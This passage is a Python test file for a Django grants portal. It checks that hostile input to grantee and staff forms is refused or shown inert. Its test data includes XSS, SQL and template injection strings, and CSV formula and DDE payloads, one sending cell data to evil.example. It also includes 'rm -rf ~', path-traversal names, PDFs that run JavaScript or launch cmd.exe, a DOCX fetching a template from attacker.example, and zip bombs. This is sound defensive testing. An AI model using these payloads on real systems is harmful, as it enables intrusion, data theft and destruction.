"""Hostile input, sent through the real pages by the people who would type it.

Each payload below goes through a form a grantee or a ministry officer really
uses, posted as that user. It is either refused, with the reason shown next to
the field and nothing written (no row, no history record, no stored file), or
kept exactly as typed and shown inert wherever it appears: escaped on the staff
and portal pages, in the staff tables, and with formulas neutralised in the CSV
exports. The staff tables' search boxes take SQL metacharacters literally.

Bodies are encoded by hand where the test client would tidy them up: a file name
with folders in it reaches the server as sent, and so do bytes that are not
UTF-8 (a lone surrogate cannot be encoded, so its UTF-8-style bytes are sent).
"""

import datetime
import hashlib
import re
import unicodedata
from dataclasses import dataclass
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils.html import escape
from django_otp.plugins.otp_static.models import StaticDevice
from django_otp.plugins.otp_totp.models import TOTPDevice

from grants.models import (
    BudgetLine,
    Document,
    Extension,
    Instalment,
    Membership,
    Milestone,
    ProgressReport,
    Project,
    UtilisationCertificate,
)
from tests.factories import (
    InstalmentFactory,
    MilestoneFactory,
    OrganisationFactory,
    ProjectFactory,
    ReminderFactory,
    StaffUserFactory,
    TwoFactorInvitationFactory,
    UserFactory,
    UtilisationCertificateFactory,
)
from tests.test_exports import column, csv_rows, export
from tests.test_services import project_ready_to_close
from tests.test_uploads import (
    CATALOG,
    PAGES,
    PDF_BYTES,
    VBA,
    VBA_PROJECT,
    VBA_RELATIONSHIP,
    docx_bytes,
    forged_bomb,
    javascript_on_opening,
    jpeg_bytes,
    jpeg_segment,
    ooxml_bytes,
    page_with,
    pdf_document,
    pikepdf_bytes,
    png_bytes,
    png_chunk,
    script_in_a_comment_between_objects,
    zip_bytes,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("demo_morning")]

TODAY = datetime.date(2026, 11, 22)


# What a refusal must leave untouched --------------------------------------------------

TRACKED = (
    Project,
    BudgetLine,
    Instalment,
    UtilisationCertificate,
    Milestone,
    ProgressReport,
    Extension,
    Membership,
    Document,
)


def stored_files() -> list[Path]:
    media = Path(settings.MEDIA_ROOT)
    return sorted(path for path in media.rglob("*") if path.is_file())


def footprint() -> dict[str, int]:
    """Count every row, history record and stored file a submission could leave."""
    counts = {model.__name__: model.objects.count() for model in TRACKED}
    for model in TRACKED:
        if hasattr(model, "history"):
            counts[f"{model.__name__} history"] = model.history.count()
    counts["stored files"] = len(stored_files())
    return counts


def assert_refused(response, before, *, field, message):
    """The page comes back with the reason next to the field, and nothing is kept.

    What was typed comes back too, for correcting, and must be as inert there.
    """
    assert response.status_code == 200
    errors = response.context["form"].errors.get(field, [])
    assert any(message in error for error in errors), errors
    page = response.content.decode()
    assert escape(message) in page
    assert active_markup(page) == []
    assert footprint() == before


# What "inert" means on a page ---------------------------------------------------------


class ActiveMarkup(HTMLParser):
    """Collect the markup on a page that would run script or load a frame."""

    FORBIDDEN_TAGS = {"iframe", "frame", "object", "embed", "base", "style"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and not attributes.get("src"):
            self.found.append("an inline <script>")
        if tag in self.FORBIDDEN_TAGS:
            self.found.append(f"a <{tag}>")
        if tag == "meta" and "http-equiv" in attributes:
            self.found.append("a <meta http-equiv>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{name}= on a <{tag}>")
            if name == "srcdoc":
                self.found.append(f"srcdoc= on a <{tag}>")
            if (value or "").strip().lower().startswith(("javascript:", "vbscript:")):
                self.found.append(f"a script URL in {name}= on a <{tag}>")


def active_markup(page: str) -> list[str]:
    parser = ActiveMarkup()
    parser.feed(page)
    parser.close()
    return parser.found


def assert_shown_inert(response, text: str):
    """The text is on the page as text: escaped, never markup or a template."""
    assert response.status_code == 200
    page = response.content.decode()
    assert escape(text) in page
    if escape(text) != text:
        assert text not in page
    assert active_markup(page) == []


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Kept in an exported cell though they are control or format characters.
KEPT_IN_CELLS = "\t\n\r\u200c\u200d"


def as_exported(text: str) -> str:
    """A spreadsheet must read the text as text, whatever it drops or hides.

    First the characters it would drop or hide go (control characters but tab,
    line feed and carriage return; format characters but the zero-width joiner
    and non-joiner); then a formula, its first character after whitespace and
    joiners a trigger, gets an apostrophe.
    """
    shown = "".join(
        character
        for character in text
        if character in KEPT_IN_CELLS
        or unicodedata.category(character) not in ("Cc", "Cf")
    )
    first = re.sub(r"^[\s\u200c\u200d]*", "", shown)
    if shown.startswith(FORMULA_STARTS) or first.startswith(FORMULA_STARTS):
        return "'" + shown
    return shown


# Encoding bodies by hand --------------------------------------------------------------

BOUNDARY = "----KhanijHostileInputBoundary"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


def _bytes(value) -> bytes:
    if isinstance(value, bytes):
        return value
    return str(value).encode("utf-8")


def multipart(fields: dict, files=()) -> bytes:
    """Encode a form and its files exactly as given: names, folders and bytes."""
    parts = []
    for name, value in fields.items():
        for item in value if isinstance(value, list) else [value]:
            parts.append(
                f"--{BOUNDARY}\r\n"
                f'Content-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
                + _bytes(item)
                + b"\r\n"
            )
    for name, filename, data, content_type in files:
        parts.append(
            f"--{BOUNDARY}\r\n"
            f'Content-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
            f"Content-Type: {content_type}\r\n\r\n".encode()
            + data
            + b"\r\n"
        )
    parts.append(f"--{BOUNDARY}--\r\n".encode())
    return b"".join(parts)


def post_multipart(client, url, fields, files=()):
    return client.post(url, multipart(fields, files), content_type=MULTIPART)


def post_urlencoded(client, url, fields):
    body = urlencode({name: _bytes(value) for name, value in fields.items()})
    return client.post(url, body, content_type="application/x-www-form-urlencoded")


# The payloads -------------------------------------------------------------------------


@dataclass(frozen=True)
class Text:
    """Text someone types; ``wire`` is sent instead when it cannot be encoded."""

    id: str
    typed: str
    wire: bytes | None = None
    kept_as: str | None = None

    def sent(self) -> bytes:
        return self.wire if self.wire is not None else self.typed.encode("utf-8")

    @property
    def kept(self) -> str:
        """What the server keeps: the text with surrounding whitespace removed."""
        return self.kept_as if self.kept_as is not None else self.typed.strip()


TEXTS = [
    # Markup and script
    Text("script-tag", '<script>alert("khanij")</script>'),
    Text("img-onerror", "<img src=x onerror=alert(document.domain)>"),
    Text("svg-onload-breakout", '"><svg onload=alert(1)>'),
    Text("attribute-breakout", "' autofocus onfocus='alert(1)"),
    Text("javascript-url", "javascript:alert(document.cookie)"),
    Text("anchor-javascript-url", '<a href="javascript:alert(1)">Open the UC</a>'),
    Text("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    Text("textarea-breakout", "</textarea><script>alert(1)</script>"),
    Text("style-tag", '<style>body{background:url("javascript:alert(1)")}</style>'),
    Text("pre-escaped-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Text("meta-refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">'),
    # Template injection
    Text("django-variable", "{{ 7*7 }} {{ request.user.password }}"),
    Text("django-debug-tag", "{% debug %}{% load static %}"),
    Text("other-template-syntaxes", "${7*7} #{7*7} <%= 7*7 %> [[7*7]]"),
    # SQL metacharacters
    Text("sql-or-1-equals-1", "' OR 1=1 --"),
    Text("sql-drop-table", "'; DROP TABLE grants_progressreport; --"),
    Text("sql-double-quote", '" OR ""="'),
    Text("sql-stacked-sleep", "1; SELECT pg_sleep(10); --"),
    Text("like-percent", "%"),
    Text("like-underscore", "_"),
    Text("backslashes", "C:\\new\\table\\0 \\' \\\\"),
    # Spreadsheet formulas
    Text("csv-hyperlink", '=HYPERLINK("https://evil.example/?d="&A1,"Open")'),
    Text("csv-plus-dde", "+cmd|' /C calc'!A0"),
    Text("csv-minus", "-2+3+cmd|' /C calc'!A0"),
    Text("csv-at-sum", "@SUM(1+9)*cmd|' /C calc'!A0"),
    Text("csv-tab-then-formula", "\t=1+1"),
    # Spreadsheet formulas behind characters a spreadsheet drops or hides
    Text("control-then-formula", '\x01=HYPERLINK("https://evil.example/?d="&A1)'),
    Text("escape-then-formula", "\x1b+cmd|' /C calc'!A0"),
    Text("delete-then-formula", "\x7f@SUM(1+9)*cmd|' /C calc'!A0"),
    Text("zero-width-then-formula", '\u200b=HYPERLINK("https://evil.example")'),
    Text("byte-order-mark-then-formula", "\ufeff-2+3+cmd|' /C calc'!A0"),
    Text("direction-marks-then-formula", "\u200f\u202e=1+1"),
    # Unicode
    Text("rtl-override", "UC approved \u202egnp.exe"),
    Text("zero-width", "pay\u200bment\u200c due\u200d\u2060now\ufeff"),
    Text("invisible-only", "\u200b\u200c\u200d\u2060\ufeff\u202e", kept_as=""),
    Text("nul-byte", "report\x00<script>alert(1)</script>"),
    Text(
        "lone-surrogate",
        "\ud800 surrogate",
        wire=b"\xed\xa0\x80 surrogate",
        kept_as="\ufffd\ufffd\ufffd surrogate",
    ),
    Text("combining-marks", "Z\u0351\u036b\u0343a\u0308\u0301l\u0336g\u0335o\u0337"),
    Text("emoji", "Pilot ⛏️🪨🧲 commissioned 👩🏽‍🔬 ✅"),
    Text("homoglyphs", "Ministry of Мinеs: аpprоvеd"),  # Cyrillic М е а о
    Text("very-long", "Nd-Pr oxide " * 1000),
    Text("whitespace-only", " \t\r\n \u00a0 "),
]


def ids(item) -> str:
    return item.id


def refusal(text: Text, *, required_message=None, max_length=None) -> str | None:
    """Say why a form refuses the text, or None if it keeps it.

    Null characters are refused by every text field (PostgreSQL cannot store
    them); a required field refuses blank text; a short field refuses long text.
    """
    if "\x00" in text.typed:
        return "Null characters are not allowed."
    if required_message and not text.kept:
        return required_message
    if max_length and len(text.kept) > max_length:
        return f"Ensure this value has at most {max_length} characters"
    return None


def split(texts, **rules):
    """Split the texts into (refused with their reasons, kept)."""
    refused = [(text, refusal(text, **rules)) for text in texts]
    return (
        [pytest.param(text, why, id=text.id) for text, why in refused if why],
        [pytest.param(text, id=text.id) for text, why in refused if not why],
    )


# The world the payloads land in -------------------------------------------------------


@pytest.fixture
def own_project(organisation):
    return ProjectFactory(
        organisation=organisation, reference="OWN-REE-0001", status="ongoing"
    )


@pytest.fixture
def report_milestone(own_project):
    return MilestoneFactory(
        project=own_project,
        title="Half-yearly progress report, Apr–Sep 2026",
        period_start=datetime.date(2026, 4, 1),
        period_end=datetime.date(2026, 9, 30),
        due_on=datetime.date(2026, 10, 30),
    )


def report_fields(**overrides):
    fields = {
        "period_start": "2026-04-01",
        "period_end": "2026-09-30",
        "narrative": "Bench-scale solvent extraction reached 92% Nd recovery.",
        "trl_now": "4",
        "publications": "2",
        "patents_filed": "0",
        "prototypes": "0",
        "technologies_transferred": "0",
        "people_trained": "3",
    }
    fields.update(overrides)
    return fields


@pytest.fixture
def submitted_uc(own_project):
    certificate = UtilisationCertificateFactory(project=own_project)
    MilestoneFactory(
        project=own_project,
        kind=Milestone.Kind.UTILISATION_CERTIFICATE,
        title="Annual UC 2024-25",
        status=Milestone.Status.SUBMITTED,
        certificate=certificate,
    )
    return certificate


@pytest.fixture
def second_instalment(own_project):
    """Instalment 2 is due and no accepted UC covers 1: it needs an override."""
    InstalmentFactory(
        project=own_project,
        sequence=1,
        planned_on=datetime.date(2025, 5, 20),
        released=True,
        release_order_number="RO/OWN/1",
    )
    return InstalmentFactory(
        project=own_project, sequence=2, planned_on=datetime.date(2026, 10, 1)
    )


@pytest.fixture
def uc_milestone(own_project):
    """A UC milestone for 2025-26, the project's first year; 15 lakh were released."""
    own_project.start_on = datetime.date(2025, 4, 1)
    own_project.end_on = datetime.date(2028, 3, 31)
    own_project.save()
    own_project.release = InstalmentFactory(
        project=own_project,
        sequence=1,
        amount=1_500_000,
        planned_on=datetime.date(2025, 5, 20),
        released=True,
    )
    return MilestoneFactory(
        project=own_project,
        kind=Milestone.Kind.UTILISATION_CERTIFICATE,
        title="Annual UC 2025-26 (GFR 12-A)",
        period_start=datetime.date(2025, 4, 1),
        period_end=datetime.date(2026, 3, 31),
        due_on=datetime.date(2026, 6, 30),
    )


def uc_fields(project, **overrides):
    """A balanced 2025-26 UC: 4,00,000 + 0 - 0 + 15,00,000 - 15,00,000 = 4,00,000."""
    fields = {
        "kind": "annual",
        "period_start": "2025-04-01",
        "period_end": "2026-03-31",
        "opening_balance": "4,00,000",
        "interest_earned": "0",
        "interest_remitted": "0",
        "received_instalments": [str(project.release.pk)],
        "grant_received": "15,00,000",
        "expenditure": "15,00,000",
        "closing_balance": "4,00,000",
        "targets_achieved": "Pilot column commissioned.",
    }
    fields.update(overrides)
    return fields


def signed_copy(data=PDF_BYTES, name="signed-uc.pdf"):
    return ("signed_copy", name, data, "application/pdf")


def login(client, user):
    client.force_login(user)
    return client


# Text in a progress report's narrative (grantee) --------------------------------------

NARRATIVE_REFUSED, NARRATIVE_KEPT = split(
    TEXTS, required_message="Describe the progress made in the period."
)


@pytest.mark.parametrize(("text", "why"), NARRATIVE_REFUSED)
def test_a_hostile_narrative_is_refused_with_nothing_written(
    client, grantee, report_milestone, text, why
):
    login(client, grantee)
    before = footprint()

    response = post_multipart(
        client,
        reverse("portal:report-submit", args=[report_milestone.pk]),
        report_fields(narrative=text.sent()),
    )

    assert_refused(response, before, field="narrative", message=why)


@pytest.mark.parametrize("text", NARRATIVE_KEPT)
def test_a_hostile_narrative_is_kept_as_typed_and_shown_inert(
    client, grantee, programme_officer, report_milestone, text
):
    login(client, grantee)

    response = post_multipart(
        client,
        reverse("portal:report-submit", args=[report_milestone.pk]),
        report_fields(narrative=text.sent()),
    )

    assert response.status_code == 302
    report = ProgressReport.objects.get()
    assert report.narrative == text.kept
    assert_shown_inert(
        client.get(reverse("portal:report-detail", args=[report.pk])), text.kept
    )
    login(client, programme_officer)
    assert_shown_inert(
        client.get(reverse("staff:report-accept", args=[report.pk])), text.kept
    )


# Text in a document's description (grantee) -------------------------------------------

DESCRIPTION_REFUSED, DESCRIPTION_KEPT = split(TEXTS, max_length=255)


def upload_fields(**overrides):
    fields = {"kind": "other", "attach_to": "project", "description": ""}
    fields.update(overrides)
    return fields


def a_pdf(name="results.pdf", data=PDF_BYTES):
    return ("file", name, data, "application/pdf")


@pytest.mark.parametrize(("text", "why"), DESCRIPTION_REFUSED)
def test_a_hostile_document_description_is_refused_with_nothing_stored(
    client, grantee, own_project, text, why
):
    login(client, grantee)
    before = footprint()

    response = post_multipart(
        client,
        reverse("portal:document-upload", args=[own_project.pk]),
        upload_fields(description=text.sent()),
        [a_pdf()],
    )

    assert_refused(response, before, field="description", message=why)


@pytest.mark.parametrize("text", DESCRIPTION_KEPT)
def test_a_hostile_document_description_is_kept_and_shown_inert_to_both_sides(
    client, grantee, programme_officer, own_project, text
):
    login(client, grantee)

    response = post_multipart(
        client,
        reverse("portal:document-upload", args=[own_project.pk]),
        upload_fields(description=text.sent()),
        [a_pdf()],
    )

    assert response.status_code == 302
    assert Document.objects.get().description == text.kept
    assert_shown_inert(
        client.get(reverse("portal:project-detail", args=[own_project.pk])),
        text.kept,
    )
    login(client, programme_officer)
    assert_shown_inert(
        client.get(reverse("staff:project-detail", args=[own_project.pk])),
        text.kept,
    )


# Text in the reason a certificate is returned (finance officer) -----------------------

RETURN_REFUSED, RETURN_KEPT = split(TEXTS, required_message="This field is required.")


def return_fields(reason):
    return {"decided_on": "2026-11-22", "reason": reason}


@pytest.mark.parametrize(("text", "why"), RETURN_REFUSED)
def test_a_hostile_return_reason_is_refused_and_the_certificate_stays_submitted(
    client, finance_officer, submitted_uc, text, why
):
    login(client, finance_officer)
    before = footprint()

    response = post_urlencoded(
        client,
        reverse("staff:certificate-return", args=[submitted_uc.pk]),
        return_fields(text.sent()),
    )

    assert_refused(response, before, field="reason", message=why)
    submitted_uc.refresh_from_db()
    assert submitted_uc.status == UtilisationCertificate.Status.SUBMITTED


@pytest.mark.parametrize("text", RETURN_KEPT)
def test_a_hostile_return_reason_is_shown_inert_on_every_page_and_in_the_csv(
    client, finance_officer, grantee, submitted_uc, text
):
    login(client, finance_officer)

    response = post_urlencoded(
        client,
        reverse("staff:certificate-return", args=[submitted_uc.pk]),
        return_fields(text.sent()),
    )

    assert response.status_code == 302
    submitted_uc.refresh_from_db()
    assert submitted_uc.return_reason == text.kept
    project = submitted_uc.project_id
    assert_shown_inert(
        client.get(reverse("staff:project-detail", args=[project])), text.kept
    )
    exported = csv_rows(export(client, "staff:certificate-list", "csv"))
    assert column(exported, "Return reason") == [as_exported(text.kept)]
    login(client, grantee)
    for page in (
        reverse("portal:home"),
        reverse("portal:project-detail", args=[project]),
        reverse("portal:certificate-detail", args=[submitted_uc.pk]),
    ):
        assert_shown_inert(client.get(page), text.kept)


# Text in a release order number (finance officer) -------------------------------------

RELEASE_REFUSED, RELEASE_KEPT = split(
    TEXTS, required_message="This field is required.", max_length=60
)


def release_fields(order_number):
    return {
        "released_on": "2026-11-22",
        "release_order_number": order_number,
        "override_reason": "Minister's directive of 20 Nov 2026.",
    }


@pytest.mark.parametrize(("text", "why"), RELEASE_REFUSED)
def test_a_hostile_release_order_number_is_refused_and_nothing_is_released(
    client, finance_officer, second_instalment, text, why
):
    login(client, finance_officer)
    before = footprint()

    response = post_urlencoded(
        client,
        reverse("staff:instalment-release", args=[second_instalment.pk]),
        release_fields(text.sent()),
    )

    assert_refused(response, before, field="release_order_number", message=why)
    second_instalment.refresh_from_db()
    assert second_instalment.released_on is None


@pytest.mark.parametrize("text", RELEASE_KEPT)
def test_a_hostile_release_order_number_is_shown_inert_in_tables_pages_and_csv(
    client, finance_officer, grantee, second_instalment, text
):
    login(client, finance_officer)

    response = post_urlencoded(
        client,
        reverse("staff:instalment-release", args=[second_instalment.pk]),
        release_fields(text.sent()),
    )

    assert response.status_code == 302
    second_instalment.refresh_from_db()
    assert second_instalment.release_order_number == text.kept
    project = second_instalment.project_id
    assert_shown_inert(client.get(reverse("staff:instalment-list")), text.kept)
    assert_shown_inert(
        client.get(reverse("staff:project-detail", args=[project])), text.kept
    )
    exported = csv_rows(export(client, "staff:instalment-list", "csv"))
    assert as_exported(text.kept) in column(exported, "Release order")
    login(client, grantee)
    assert_shown_inert(
        client.get(reverse("portal:project-detail", args=[project])), text.kept
    )


# Files --------------------------------------------------------------------------------


@cache
def zip_bomb(main_part, content_type, bulky_part) -> bytes:
    """A package whose one part unpacks 20 MB of zeros from a few kilobytes."""
    return ooxml_bytes(
        main_part, content_type, extra=[(bulky_part, b"0" * (20 * 1024 * 1024))]
    )


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL_MAIN = (
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    b'onload="alert(1)"><script>alert(document.cookie)</script></svg>'
)
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200


def pdf_with(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\n%%EOF\n"


def pdf_opening_with(action: bytes) -> bytes:
    """A sound one-page PDF that runs this action when it is opened."""
    catalog = CATALOG[:-2] + b"/OpenAction 4 0 R >>"
    return pdf_document(catalog, PAGES, page_with(), action)


@cache
def forged_zip_bomb() -> bytes:
    return forged_bomb()


SCRIPT = b"<script>alert(document.cookie)</script>"


@dataclass(frozen=True)
class HostileFile:
    """A file made to hurt, and the words its refusal must say."""

    id: str
    name: str
    make: object  # a callable returning the bytes
    said: str
    content_type: str = "application/pdf"
    max_bytes: int | None = None
    said_where_only_pdf_is_taken: str | None = None

    def data(self) -> bytes:
        return self.make()


HOSTILE_FILES = [
    HostileFile(
        "exe-named-pdf", "report.pdf", lambda: WINDOWS_PROGRAM, "a Windows program"
    ),
    HostileFile(
        "elf-named-pdf",
        "report.pdf",
        lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 100,
        "a Linux program",
    ),
    HostileFile(
        "double-extension-exe",
        "report.pdf.exe",
        lambda: WINDOWS_PROGRAM,
        "a Windows program",
        "application/x-msdownload",
    ),
    HostileFile(
        "shell-script-named-docx",
        "narrative.docx",
        lambda: b"#!/bin/sh\nrm -rf ~\n",
        "a script",
        WORD,
    ),
    HostileFile(
        "html-page-named-pdf", "statement.pdf", lambda: HTML_PAGE, "an HTML page"
    ),
    HostileFile(
        "html-page", "statement.html", lambda: HTML_PAGE, "an HTML page", "text/html"
    ),
    HostileFile(
        "svg-with-script",
        "chart.svg",
        lambda: SVG_SCRIPT,
        "an SVG image",
        "image/svg+xml",
    ),
    HostileFile(
        "svg-named-png", "chart.png", lambda: SVG_SCRIPT, "an SVG image", "image/png"
    ),
    HostileFile(
        "pdf-html-polyglot",
        "report.pdf",
        lambda: pdf_with(b"<html><body><script>alert(1)</script></body></html>"),
        "web page or script code",
    ),
    HostileFile(
        "pdf-zip-polyglot",
        "report.pdf",
        lambda: PDF_BYTES + zip_bytes(**{"payload.exe": "MZ"}),
        "also a ZIP archive",
    ),
    HostileFile(
        "pdf-with-javascript",
        "report.pdf",
        lambda: pdf_opening_with(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "is a PDF that contains JavaScript",
    ),
    HostileFile(
        "pdf-with-launch-action",
        "report.pdf",
        lambda: pdf_opening_with(b"<< /S /Launch /F (cmd.exe) >>"),
        "an action that starts a program",
    ),
    HostileFile(
        "pdf-javascript-in-an-object-stream",
        "report.pdf",
        lambda: pikepdf_bytes(javascript_on_opening),
        "is a PDF that contains JavaScript",
    ),
    HostileFile(
        "pdf-with-a-script-in-its-middle",
        "report.pdf",
        script_in_a_comment_between_objects,
        "is a PDF document with web page or script code",
    ),
    HostileFile(
        "pdf-that-cannot-be-parsed",
        "report.pdf",
        lambda: pdf_with(b"1 0 obj << /OpenAction << /S /JavaScript >> >>"),
        "cannot be read as a PDF",
    ),
    HostileFile(
        "pdf-locked-with-a-password",
        "report.pdf",
        lambda: pikepdf_bytes(password="secret"),
        "is protected with a password",
    ),
    HostileFile(
        "png-with-html-in-a-text-chunk",
        "photo.png",
        lambda: png_bytes(  # the text is in neither the first nor the last kB
            png_chunk(b"prVt", b"\x00" * 2000),
            png_chunk(b"tEXt", b"Comment\x00" + SCRIPT),
            png_chunk(b"prVt", b"\x00" * 2000),
        ),
        "web page or script code",
        "image/png",
        said_where_only_pdf_is_taken="is a PNG image; only PDF files are accepted",
    ),
    HostileFile(
        "jpeg-with-html-in-a-comment",
        "photo.jpg",
        lambda: jpeg_bytes(  # the comment is in neither the first nor the last kB
            jpeg_segment(0xFE, b"\x00" * 2000 + SCRIPT),
            jpeg_segment(0xE2, b"\x00" * 2000),
        ),
        "web page or script code",
        "image/jpeg",
        said_where_only_pdf_is_taken="is a JPEG image; only PDF files are accepted",
    ),
    HostileFile(
        "png-with-html-after-its-end",
        "photo.png",
        lambda: png_bytes() + b"<script>alert(document.cookie)</script>",
        "web page or script code",
        "image/png",
        said_where_only_pdf_is_taken="is a PNG image; only PDF files are accepted",
    ),
    HostileFile(
        "zip-bomb-in-docx",
        "narrative.docx",
        lambda: zip_bomb(
            "word/document.xml",
            WORD + ".main+xml",
            "word/media/filler.xml",
        ),
        "zip bomb",
        WORD,
    ),
    HostileFile(
        "zip-bomb-in-xlsx",
        "budget.xlsx",
        lambda: zip_bomb("xl/workbook.xml", EXCEL_MAIN, "xl/worksheets/sheet1.xml"),
        "zip bomb",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    HostileFile(
        "zip-bomb-with-forged-sizes-in-xlsx",
        "budget.xlsx",
        forged_zip_bomb,
        "zip bomb",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    HostileFile(
        "docx-with-renamed-vba",
        "narrative.docx",
        lambda: docx_bytes(
            extra=[("word/payload.bin", VBA_PROJECT)],
            overrides=[("word/payload.bin", VBA)],
            relationships=[(VBA_RELATIONSHIP, "payload.bin", False)],
        ),
        "macros",
        WORD,
    ),
    HostileFile(
        "docx-with-a-remote-template",
        "narrative.docx",
        lambda: docx_bytes(
            relationships=[
                (
                    "http://schemas.openxmlformats.org/officeDocument/2006/"
                    "relationships/attachedTemplate",
                    "http://attacker.example/template.dotm",
                    True,
                )
            ]
        ),
        "from elsewhere",
        WORD,
    ),
    HostileFile(
        "docx-with-macros",
        "narrative.docx",
        lambda: docx_bytes(extra=[("word/vbaProject.bin", b"\x00" * 10)]),
        "macros",
        WORD,
    ),
    HostileFile(
        "docx-carrying-a-program",
        "narrative.docx",
        lambda: docx_bytes(extra=[("word/embeddings/setup.exe", WINDOWS_PROGRAM)]),
        "program or script",
        WORD,
    ),
    HostileFile(
        "docx-with-a-path-traversal-part",
        "narrative.docx",
        lambda: docx_bytes(extra=[("../../etc/cron.d/job", b"* * * * * root id")]),
        "a path outside the document",
        WORD,
    ),
    HostileFile(
        "old-office-file",
        "budget.xls",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100,
        ".doc or .xls",
        "application/vnd.ms-excel",
    ),
    HostileFile(
        "oversized",
        "scan.pdf",
        lambda: PDF_BYTES + b"%" * 5000 + b"\n%%EOF\n",
        "the largest file accepted is",
        max_bytes=1000,
    ),
    HostileFile("empty", "empty.pdf", lambda: b"", "is empty"),
]

ROUTES = ["document-upload", "report-attachment", "signed-uc"]


def post_file(client, route, hostile, *, project, report_milestone, uc_milestone):
    """Send the file through one of the three portal forms that take files."""
    part = (hostile.name, hostile.data(), hostile.content_type)
    if route == "document-upload":
        url = reverse("portal:document-upload", args=[project.pk])
        return "file", post_multipart(client, url, upload_fields(), [("file", *part)])
    if route == "report-attachment":
        url = reverse("portal:report-submit", args=[report_milestone.pk])
        return "attachments", post_multipart(
            client, url, report_fields(), [("attachments", *part)]
        )
    url = reverse("portal:milestone-certificate-submit", args=[uc_milestone.pk])
    return "signed_copy", post_multipart(
        client, url, uc_fields(project), [("signed_copy", *part)]
    )


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("hostile", HOSTILE_FILES, ids=ids)
def test_a_hostile_file_is_refused_by_every_upload_form_and_nothing_is_kept(
    client,
    grantee,
    own_project,
    report_milestone,
    uc_milestone,
    settings,
    route,
    hostile,
):
    if hostile.max_bytes:
        settings.UPLOAD_MAX_BYTES = hostile.max_bytes
    login(client, grantee)
    before = footprint()

    field, response = post_file(
        client,
        route,
        hostile,
        project=own_project,
        report_milestone=report_milestone,
        uc_milestone=uc_milestone,
    )

    said = hostile.said
    if route == "signed-uc" and hostile.said_where_only_pdf_is_taken:
        said = hostile.said_where_only_pdf_is_taken
    assert_refused(response, before, field=field, message=said)
    assert stored_files() == []


@dataclass(frozen=True)
class DisguisedName:
    """A file whose content is fine but whose name is made to mislead."""

    id: str
    name: str
    kept_as: str


DISGUISED_NAMES = [
    DisguisedName("path-traversal", "../../etc/passwd.pdf", "passwd.pdf"),
    DisguisedName(
        "windows-path-traversal",
        "..\\..\\Windows\\System32\\drivers.pdf",
        "drivers.pdf",
    ),
    DisguisedName("absolute-path", "/var/www/static/index.pdf", "index.pdf"),
    DisguisedName("windows-reserved-con", "CON.pdf", "CON_file.pdf"),
    DisguisedName("windows-reserved-lpt1", "lpt1.pdf", "lpt1_file.pdf"),
    DisguisedName("windows-reserved-nul", "NUL.docx", "NUL_file.pdf"),
    DisguisedName("double-extension", "scan.pdf.exe", "scan.pdf.pdf"),
    DisguisedName("rtl-override", "invoice\u202efdp.exe", "invoicefdp.pdf"),
    DisguisedName(
        "markup-in-the-name",
        "<img src=x onerror=alert(1)>.pdf",
        "img src_x onerror_alert(1).pdf",
    ),
    DisguisedName("only-dots", "....pdf", "document.pdf"),
]


@pytest.mark.parametrize("disguised", DISGUISED_NAMES, ids=ids)
def test_a_misleading_file_name_is_replaced_by_a_safe_one_inside_the_media_folder(
    client, grantee, programme_officer, own_project, disguised
):
    login(client, grantee)
    outside_before = {
        path for path in Path(settings.MEDIA_ROOT).parent.rglob("*") if path.is_file()
    }

    response = post_multipart(
        client,
        reverse("portal:document-upload", args=[own_project.pk]),
        upload_fields(),
        [("file", disguised.name, PDF_BYTES, "application/octet-stream")],
    )

    assert response.status_code == 302
    document = Document.objects.get()
    assert document.original_name == disguised.kept_as
    assert document.content_type == "application/pdf"
    media = Path(settings.MEDIA_ROOT).resolve()
    stored = Path(document.file.path).resolve()
    assert stored.is_relative_to(media / "documents")
    assert len(stored.stem) == 32
    assert stored.suffix == ".pdf"
    added = {
        path for path in Path(settings.MEDIA_ROOT).parent.rglob("*") if path.is_file()
    } - outside_before
    assert [path.resolve() for path in added] == [stored]
    download = client.get(reverse("document-download", args=[document.pk]))
    assert f'filename="{disguised.kept_as}"' in download["Content-Disposition"]
    assert_shown_inert(
        client.get(reverse("portal:project-detail", args=[own_project.pk])),
        disguised.kept_as,
    )
    login(client, programme_officer)
    assert_shown_inert(
        client.get(reverse("staff:project-detail", args=[own_project.pk])),
        disguised.kept_as,
    )


# Amounts ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Amount:
    """A figure typed into a money box, and what each form says of it.

    ``on_certificate`` is the grantee's UC form (whole rupees, Indian grouping
    allowed); ``on_closure`` the finance officer's closure form (a plain whole
    number). None means the figure is read as ``kept_as``.
    """

    id: str
    typed: str
    on_certificate: str | None
    on_closure: str
    kept_as: int | None = None


NEGATIVE = "An amount cannot be negative."
WHOLE_RUPEES = "Enter whole rupees, like 26,40,000."
WHOLE_NUMBER = "Enter a whole number."
AT_LEAST_0 = "Ensure this value is greater than or equal to 0."
TOO_LARGE = "That is more than any grant: check the figure."
REQUIRED = "This field is required."

AMOUNTS = [
